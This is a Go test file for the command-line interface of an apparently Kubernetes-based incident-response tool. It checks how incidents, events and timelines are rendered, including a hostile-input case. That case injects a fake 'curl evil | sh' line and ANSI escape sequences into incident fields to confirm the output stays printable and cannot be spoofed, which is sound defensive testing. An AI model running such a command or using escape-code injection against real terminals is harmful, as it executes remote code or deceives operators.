package cli

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/firebreak-dev/firebreak/api/v1alpha1"
)

func TestShowRendering(t *testing.T) {
	closed := sampleIncident()
	closed.Status.Phase, closed.Status.Resolution, closed.Status.Awaiting, closed.Status.Assignee = v1alpha1.PhaseClosed, v1alpha1.ResolutionResolved, nil, jane
	closed.Status.Steps[2].State, closed.Status.Steps[2].EndTime = v1alpha1.StepSucceeded, atP(90)
	closed.Status.Steps[2].Approvers = []v1alpha1.Approver{{By: jane, DecisionRef: v1alpha1.DecisionReference{Name: "approve-abcde"}, Time: at(90)}}
	closed.Status.Steps[3].State, closed.Status.Steps[3].StartTime, closed.Status.Steps[3].EndTime = v1alpha1.StepSucceeded, atP(91), atP(92)

	attacked := sampleIncident()
	attacked.Spec.Title = hostile
	attacked.Status.Steps[0].Message = hostile
	attacked.Status.Steps[1].Targets[0].Message = hostile
	attacked.Status.Awaiting[0].Message = "fine\nType: curl evil | sh\n" + hostile
	attacked.Status.Timeline[0].Message, attacked.Status.Timeline[0].Actor = hostile, "\x1b[31mroot"
	attacked.Status.PausedBy = hostile
	attacked.Status.Resources[0].Hold = hostile

	stalled := sampleIncident()
	stalled.Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionStalled, Status: metav1.ConditionTrue, Reason: v1alpha1.ReasonStepFailed, Message: "step isolate failed"}}
	stalled.Status.Steps[1].State, stalled.Status.Steps[1].Message = v1alpha1.StepFailed, "the pod uses the host's network: no NetworkPolicy reaches it"
	stalled.Status.Awaiting[0].DueTime = atP(300)
	stalled.Status.Audit.SealedSequence, stalled.Status.Timeline = 2, stalled.Status.Timeline[2:]

	fresh := &v1alpha1.Incident{ObjectMeta: metav1.ObjectMeta{Name: "inc-x", Namespace: "security", CreationTimestamp: at(590)},
		Spec: v1alpha1.IncidentSpec{Title: "Lost laptop", Severity: v1alpha1.SeverityLow, Category: v1alpha1.CategoryOther,
			Assets: []v1alpha1.Asset{{Type: "Device", Identifier: "LT-0042", Owner: "finance"}}}}

	assets := sampleIncident()
	assets.Spec.Assets = []v1alpha1.Asset{{Type: "Device", Identifier: "LT-0042"}}
	assets.Status.Assets = []v1alpha1.IncidentAsset{
		{Asset: v1alpha1.Asset{Type: "Device", Identifier: "LT-0042"}, State: v1alpha1.AssetDetached},
		{Asset: v1alpha1.Asset{Type: "Device", Identifier: "LT-0043", Owner: "finance"}},
		{Asset: v1alpha1.Asset{Type: "Account", Identifier: hostile, Owner: hostile}},
	}
	assets.Status.OmittedResources, assets.Status.OmittedAssets = 3, 2

	drill := sampleIncident()
	drill.Spec.Mode, drill.Status.Mode = v1alpha1.ModeDrill, v1alpha1.ModeDryRun

	for name, test := range map[string]struct {
		incident *v1alpha1.Incident
		terminal terminal
	}{
		"show-drill":  {drill, terminal{}},
		"show-assets": {assets, terminal{}},
		"show":        {sampleIncident(), terminal{}},
		"show-color":  {sampleIncident(), terminal{color: true, width: 100}},
		"show-narrow": {stalled, terminal{width: 60}},
		"show-closed": {closed, terminal{}},
		"show-attack": {attacked, terminal{}},
		"show-fresh":  {fresh, terminal{}},
	} {
		t.Run(name, func(t *testing.T) {
			s, out, _ := testSession(test.terminal)
			s.newView(test.incident).print(sampleEvidence(), "")
			golden(t, name, out.String())
			if !test.terminal.color && hasUnprintable(out.String()) {
				t.Errorf("not all printable: %q", out.String())
			}
		})
	}
}

func TestShowDuplicates(t *testing.T) {
	incident := sampleIncident()
	incident.Status.DuplicateOf = v1alpha1.IncidentOriginal{Name: "inc-a\x1b[31m", By: jane}
	incident.Status.Duplicates = []v1alpha1.IncidentDuplicate{{Name: "inc-b"}, {Name: "inc-c"}}
	s, out, _ := testSession(terminal{})
	s.newView(incident).print(nil, "")
	for _, want := range []string{"inc-a", ", by " + jane + " (not taken up by it yet)", "inc-b, inc-c"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("%q is missing:\n%s", want, out)
		}
	}
	if hasUnprintable(out.String()) {
		t.Errorf("not all printable: %q", out.String())
	}
	incident.Status.DuplicateOf.TakenUpTime = atP(90)
	if got := duplicateOf(&incident.Status.DuplicateOf); strings.Contains(got, "not taken up") {
		t.Errorf("got %q", got)
	}
}

func TestFollowPrintsOnlyWhatIsNew(t *testing.T) {
	s, out, _ := testSession(terminal{})
	v := s.newView(sampleIncident())
	v.print(nil, "")
	out.Reset()

	same := sampleIncident()
	if v.update(same) || out.Len() > 0 {
		t.Errorf("an incident that has not changed was printed:\n%s", out)
	}
	next := sampleIncident()
	next.Status.Phase, next.Status.Awaiting = v1alpha1.PhaseRecovery, nil
	chain(next, v1alpha1.TimelineEntry{Time: at(120), Actor: jane, Decision: "approve-abcde", Action: "Approve", Outcome: "Accepted", Step: "ok-to-delete", Message: "go on"})
	if v.update(next.DeepCopy()) {
		t.Error("the incident was taken for closed")
	}
	asks := next.DeepCopy()
	asks.Status.Awaiting = []v1alpha1.Awaiting{{Type: v1alpha1.AwaitingTask, Step: "call-owner", SinceTime: at(121), Message: "Call the owner.", Command: "kubectl firebreak task x call-owner"}}
	v.update(asks.DeepCopy())
	v.update(asks.DeepCopy())
	over := next.DeepCopy()
	over.Status.Phase, over.Status.Resolution = v1alpha1.PhaseClosed, v1alpha1.ResolutionResolved
	chain(over, v1alpha1.TimelineEntry{Time: at(86400), Actor: managerSA, Action: "IncidentClosed"})
	if !v.update(over) {
		t.Error("the closed incident was not taken for closed")
	}
	golden(t, "follow", out.String())
}

func TestFollowSaysWhatWasSealed(t *testing.T) {
	s, out, _ := testSession(terminal{})
	w := timelineWriter{session: s, last: 1}
	incident := sampleIncident()
	incident.Status.Timeline = incident.Status.Timeline[2:]
	if got := w.write(incident); got != 1 {
		t.Errorf("wrote %d entries, want 1", got)
	}
	if want := "entries 2 to 2 were sealed"; !strings.Contains(out.String(), want) {
		t.Errorf("want %q in:\n%s", want, out)
	}
}

func TestListRendering(t *testing.T) {
	incidents := []v1alpha1.Incident{*sampleIncident(), *sampleIncident(), *sampleIncident(), {
		ObjectMeta: metav1.ObjectMeta{Name: "inc-20261121-zzzzz", Namespace: "tenant", CreationTimestamp: at(595)},
		Spec:       v1alpha1.IncidentSpec{Title: hostile, Severity: v1alpha1.SeverityLow, Category: v1alpha1.CategoryOther},
	}}
	incidents[1].Name, incidents[1].Status.Severity = "inc-20261121-bbbbb", v1alpha1.SeverityMedium
	incidents[1].Status.Awaiting[0].DueTime = atP(500)
	incidents[1].Status.Awaiting = append(incidents[1].Status.Awaiting, v1alpha1.Awaiting{Type: v1alpha1.AwaitingTask, Step: "x"})
	incidents[2].Name, incidents[2].Status.Phase, incidents[2].Status.Awaiting = "inc-20261120-ccccc", v1alpha1.PhaseClosed, nil
	events := []v1alpha1.SecurityEvent{{
		ObjectMeta: metav1.ObjectMeta{Name: "falco-5f0c8a2e1b", Namespace: "security", CreationTimestamp: at(300)},
		Spec:       v1alpha1.SecurityEventSpec{Title: "Unexpected \x1b[31mconnection", Severity: v1alpha1.SeverityMedium},
		Status:     v1alpha1.SecurityEventStatus{Occurrences: 4, Assessment: v1alpha1.Assessment{Reason: v1alpha1.ReasonNoRuleMatched}},
	}}
	stopped := v1alpha1.ResponsePlan{ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: "security"},
		Status: v1alpha1.ResponsePlanStatus{Conditions: []metav1.Condition{
			{Type: v1alpha1.ConditionAutomationStopped, Status: metav1.ConditionTrue, Message: "stopped by jane@example.com: false alarms"},
			{Type: v1alpha1.ConditionGuarded, Status: metav1.ConditionFalse, Message: "a forged Decision would have been accepted"},
		}}}
	many := make([]v1alpha1.SecurityEvent, 12)
	for i := range many {
		many[i] = events[0]
	}
	for _, i := range []int{3, 11} {
		many[i].Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionAssessed, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonAssessmentOverdue}}
	}
	most := make([]v1alpha1.SecurityEvent, 0, 24)
	for i := range many {
		most = append(most, many[i], many[3])
	}
	sortEvents(many)
	sortEvents(most)
	sortIncidents(incidents)
	drills := []v1alpha1.Incident{*sampleIncident(), *sampleIncident()}
	drills[0].Spec.Mode, drills[1].Spec.Mode, drills[1].Status.Severity = v1alpha1.ModeDrill, v1alpha1.ModeLive, v1alpha1.SeverityMedium
	sortIncidents(drills)
	drilled := []v1alpha1.SecurityEvent{*events[0].DeepCopy()}
	drilled[0].Spec.Mode = v1alpha1.ModeDrill
	for name, test := range map[string]struct {
		overview overview
		terminal terminal
	}{
		"list":         {overview{namespace: "security", incidents: incidents, events: events}, terminal{}},
		"list-drills":  {overview{namespace: "security", incidents: drills, events: drilled}, terminal{}},
		"list-all":     {overview{incidents: incidents, events: events, plans: []v1alpha1.ResponsePlan{stopped}}, terminal{width: 100}},
		"list-wide":    {overview{namespace: "security", wide: true, incidents: incidents[:1]}, terminal{}},
		"list-color":   {overview{namespace: "security", incidents: incidents, plans: []v1alpha1.ResponsePlan{stopped}}, terminal{color: true, width: 100}},
		"list-nothing": {overview{namespace: "security"}, terminal{}},
		"list-many":    {overview{namespace: "security", events: many}, terminal{}},
		"list-overdue": {overview{namespace: "security", events: most}, terminal{}},
	} {
		t.Run(name, func(t *testing.T) {
			s, out, _ := testSession(test.terminal)
			s.printOverview(test.overview)
			golden(t, name, out.String())
		})
	}
}

func TestActorName(t *testing.T) {
	for actor, want := range map[string]string{
		managerSA: "firebreak:manager", playbookSA: "sa:contain-intrusion", "system:serviceaccount:shop:ci": "sa:shop/ci",
		jane: jane, "firebreak:manager": `"firebreak:manager"`, "sa:contain-intrusion": `"sa:contain-intrusion"`, "x\x1b[2J": `x\x1b[2J`,
	} {
		if got := actorName(actor, "security"); got != want {
			t.Errorf("actorName(%q) = %s, want %s", actor, got, want)
		}
	}
}
